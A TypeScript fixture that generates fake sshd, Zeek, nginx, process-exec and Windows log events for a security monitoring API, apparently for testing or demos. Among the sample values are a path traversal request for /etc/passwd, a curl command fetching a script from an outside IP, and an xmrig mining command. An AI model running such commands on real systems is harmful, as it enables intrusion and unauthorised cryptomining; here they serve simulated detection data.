/** Made-up events in the shapes of the API: sshd, Zeek, nginx, Windows, a batch system. Nothing in them is real. */
import type { EventRow, Fields } from "../src/api/types.ts";
import { type Seeded, seeded } from "./seeded.ts";

const hosts = ["login-1", "login-2", "node-0117", "node-0244", "web-1", "dc-1", "slurmctl"];
const users = ["maria", "tomas", "ji-woo", "root", "svc-backup", "anika", "postgres"];
const outside = ["203.0.113.77", "198.51.100.23", "192.0.2.140", "203.0.113.9"];

/** RFC 3339 with microseconds, as the API sends it. */
export function stamp(ms: number, random?: Seeded): string {
  return new Date(ms).toISOString().replace("Z", `${random === undefined ? "000" : String(random.between(0, 999)).padStart(3, "0")}Z`);
}

type Made = { readonly source: string; readonly class: string; readonly host: string; readonly fields: Fields; readonly original: string };

function sshd(random: Seeded): Made {
  const host = random.pick(hosts.slice(0, 2));
  const user = random.pick(users);
  const ip = random.next() < 0.6 ? outside[0]! : random.pick(outside);
  const port = random.between(30_000, 64_000);
  const good = random.next() < 0.2;
  const message = `${good ? "Accepted publickey" : "Failed password"} for ${user} from ${ip} port ${port} ssh2`;
  return {
    source: "sshd",
    class: "authentication",
    host,
    original: `Nov 21 06:30:00 ${host} sshd[${random.between(900, 32_000)}]: ${message}`,
    fields: {
      "event.dataset": "sshd",
      "event.action": "ssh_login",
      "event.outcome": good ? "success" : "failure",
      "event.category": ["authentication"],
      "host.name": host,
      "user.name": user,
      "source.ip": ip,
      "source.port": port,
      "process.name": "sshd",
      message,
    },
  };
}

function zeek(random: Seeded): Made {
  const from = `10.20.${random.between(0, 3)}.${random.between(2, 250)}`;
  const to = random.pick(outside);
  const port = random.pick([443, 80, 53, 3333, 22]);
  const bytes = random.between(80, 9_000_000);
  const uid = `C${Math.floor(random.next() * 1e12).toString(36)}`;
  return {
    source: "zeek",
    class: "network",
    host: "sensor-1",
    original: JSON.stringify({ uid, "id.orig_h": from, "id.resp_h": to, "id.resp_p": port, proto: "tcp", orig_bytes: bytes }),
    fields: {
      "event.dataset": "zeek.conn",
      "host.name": "sensor-1",
      "source.ip": from,
      "destination.ip": to,
      "destination.port": port,
      "network.transport": "tcp",
      "network.community_id": `1:${uid}=`,
      "source.bytes": bytes,
      "zeek.uid": uid,
    },
  };
}

function nginx(random: Seeded): Made {
  const ip = random.pick(outside);
  const path = random.pick(["/", "/login", "/api/v2/jobs?state=R", "/wp-login.php", "/static/app.js", "/../../etc/passwd"]);
  const status = random.pick([200, 200, 200, 304, 404, 403, 500]);
  return {
    source: "nginx",
    class: "web",
    host: "web-1",
    original: `${ip} - - [21/Nov/2026:06:30:00 +0000] "GET ${path} HTTP/1.1" ${status} ${random.between(90, 40_000)} "-" "Mozilla/5.0"`,
    fields: {
      "event.dataset": "nginx.access",
      "host.name": "web-1",
      "source.ip": ip,
      "http.request.method": "GET",
      "url.original": path,
      "http.response.status_code": status,
      "user_agent.original": "Mozilla/5.0",
    },
  };
}

function process(random: Seeded): Made {
  const host = random.pick(hosts.slice(2, 4));
  const user = random.pick(users);
  const [name, line] = random.pick([
    ["bash", "bash -c 'module load cuda && srun ./train'"],
    ["python3", "python3 train.py --epochs 40 --out /scratch/run"],
    ["xmrig", "./xmrig -o pool.example.net:3333 -u wallet --threads 64"],
    ["curl", "curl -s http://198.51.100.23/x.sh"],
  ] as const);
  return {
    source: "tetragon",
    class: "process",
    host,
    original: JSON.stringify({ process_exec: { process: { binary: `/usr/bin/${name}`, arguments: line, uid: 1000 } } }),
    fields: {
      "event.dataset": "tetragon.exec",
      "event.action": "exec",
      "host.name": host,
      "user.name": user,
      "process.name": name,
      "process.command_line": line,
      "process.pid": random.between(900, 60_000),
      "slurm.job.id": String(random.between(88_000, 88_090)),
    },
  };
}

function windows(random: Seeded): Made {
  const user = random.pick(users);
  const code = random.pick(["4624", "4625", "4688", "4672"]);
  return {
    source: "winlogbeat",
    class: "authentication",
    host: "dc-1",
    original: JSON.stringify({ EventID: code, Channel: "Security", TargetUserName: user }),
    fields: {
      "event.dataset": "windows.security",
      "event.code": code,
      "host.name": "dc-1",
      "user.name": user,
      "winlog.channel": "Security",
    },
  };
}

const makers = [sshd, sshd, zeek, zeek, zeek, nginx, process, windows];

export function makeEvent(id: string, ms: number, random: Seeded): EventRow {
  const made = random.pick(makers)(random);
  return { id, time: stamp(ms, random), received: stamp(ms + random.between(20, 300), random), ...made };
}

/** `count` events over the last `span_ms`, newest first; more of them lately than long ago. */
export function makeEvents(count: number, span_ms: number, now_ms: number): EventRow[] {
  const random = seeded(20_261_121);
  const times = Array.from({ length: count }, () => now_ms - Math.floor(random.next() ** 2 * span_ms)).sort((a, b) => b - a);
  return times.map((ms, at) => makeEvent(`evt${String(at).padStart(6, "0")}Q`, ms, random));
}
